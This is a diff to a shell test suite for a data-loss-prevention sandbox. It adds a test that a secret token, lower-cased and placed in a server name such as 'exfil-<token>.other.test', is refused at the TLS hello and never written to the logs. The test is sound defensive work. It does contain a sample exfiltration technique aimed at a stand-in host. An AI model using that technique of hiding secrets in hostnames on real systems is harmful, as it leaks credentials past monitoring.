@@ -212,10 +212,20 @@ if [ -d "$FORGE/node_modules/node-forge" ] && command -v node >/dev/null; then
 	: > "$T/events.jsonl"
 	: > "$T/good.log"
 	out=$(timeout 30 "$DLPJAIL" --no-default-policy --log "$T/events.jsonl" -q $J -- node "$FC" \
-	      exfil-"$(echo "$TOKEN" | tr 'A-Z_' 'a-z-')".other.test "$GOOD" get 2>&1)
+	      exfil-nothing-secret.other.test "$GOOD" get 2>&1)
 	check "a server name the policy does not allow is refused at the hello ($out)" \
 		event_has '"verdict":"deny"' 'server name not allowed'
 	check "... and no request reached the server" [ ! -s "$T/good.log" ]
+	# the token in that name, lower-cased: the scan of the hello's raw
+	# bytes (known secrets match in any case) or the name check refuses it
+	: > "$T/events.jsonl"
+	out=$(timeout 30 "$DLPJAIL" --no-default-policy --log "$T/events.jsonl" -q $J -- node "$FC" \
+	      exfil-"$(echo "$TOKEN" | tr 'A-Z_' 'a-z-')".other.test "$GOOD" get 2>&1)
+	check "the token as a server name is refused at the hello ($out)" \
+		event_has '"verdict":"deny"'
+	check "... and no request reached the server" [ ! -s "$T/good.log" ]
+	check "... and the token is in no event, in no case" \
+		sh -c '! grep -qiF "$1" "$2"' _ "$(echo "$TOKEN" | tr 'A-Z_' 'a-z-')" "$T/events.jsonl"
 	unset NODE_PATH
 else
 	echo "# node-forge not available (npm registry unreachable?): skipped"
